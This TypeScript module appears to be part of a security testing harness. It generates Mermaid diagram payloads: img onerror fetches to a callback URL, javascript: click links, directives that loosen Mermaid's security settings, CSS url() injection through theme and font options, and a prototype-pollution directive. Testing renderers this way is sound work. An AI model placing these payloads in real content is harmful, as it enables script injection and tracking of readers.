// Mermaid: clicks, callbacks, directives that loosen its settings, and html in labels. The control draws with its
// loosest settings.
import { family, markdown } from "./payload.ts";

type Parts = { readonly hit: string; readonly strike: string; readonly script: string };
const diagram = (source: (parts: Parts) => string, options: { pressed?: true; unproven?: string } = {}) =>
  markdown(
    ({ hit, strike }) => `\`\`\`mermaid\n${source({ hit: hit(), strike, script: encodeURIComponent(strike) })}\n\`\`\``,
    { ...options, needs: "mermaid" },
  );
const pressed = { pressed: true } as const;
/** Without a quote, a space or a semicolon, at which labels end. */
const image = (hit: string): string => `<img src='${hit}'>`;

export const diagrams = family("diagrams", {
  "label-image": diagram(({ hit }) => `graph TD\n  A["${image(hit)}"] --> B`),
  "label-handler": diagram(({ hit }) => `graph TD\n  A["<img src='data:,' onerror=fetch('${hit}')>"] --> B`, {
    unproven: "it bites in some runs and not in others",
  }),
  "label-of-edge": diagram(({ hit }) => `graph TD\n  A -->|"${image(hit)}"| B`),
  "label-of-subgraph": diagram(({ hit }) => `graph TD\n  subgraph s ["${image(hit)}"]\n  A --> B\n  end`),
  "click-script": diagram(({ script }) => `graph TD\n  A[Read on] --> B\n  click A "javascript:${script}"`, pressed),
  "click-href-script": diagram(
    ({ script }) => `graph TD\n  A[Read on] --> B\n  click A href "javascript:${script}" "tip"`,
    pressed,
  ),
  "click-self": diagram(({ hit }) => `graph TD\n  A[Read on] --> B\n  click A href "${hit}" _self`, pressed),
  "click-top": diagram(({ hit }) => `graph TD\n  A[Read on] --> B\n  click A href "${hit}" _top`, pressed),
  "directive-loosens": diagram(
    ({ hit }) =>
      `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["${image(hit)}"] --> B`,
  ),
  "directive-theme-css": diagram(
    ({ hit }) =>
      `%%{init: {"themeCSS": ".node rect { mask: url(${hit}) } svg { background: url(${hit}) } * { background-image: url(${hit}) }"}}%%\ngraph TD\n  A["${image(hit)}"] --> B`,
  ),
  "directive-font": diagram(
    ({ hit }) =>
      `%%{init: {"fontFamily": "x;} * { background: url(${hit}) }"}}%%\ngraph TD\n  A["${image(hit)}"] --> B`,
  ),
  "directive-pollutes": diagram(
    ({ hit }) =>
      `%%{init: {"__proto__": {"src": "${hit}"}, "constructor": {"prototype": {"src": "${hit}"}}}}%%\ngraph TD\n  A["${image(hit)}"] --> B`,
  ),
  "front-matter-loosens": diagram(
    ({ hit }) => `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n  A["${image(hit)}"] --> B`,
  ),
  "class-diagram": diagram(({ hit }) => `classDiagram\n  class A["${image(hit)}"]\n  A : x`),
  "image-shape": diagram(({ hit }) => `graph TD\n  A@{ img: "${hit}", label: "x", w: 60, h: 60 }`),
});
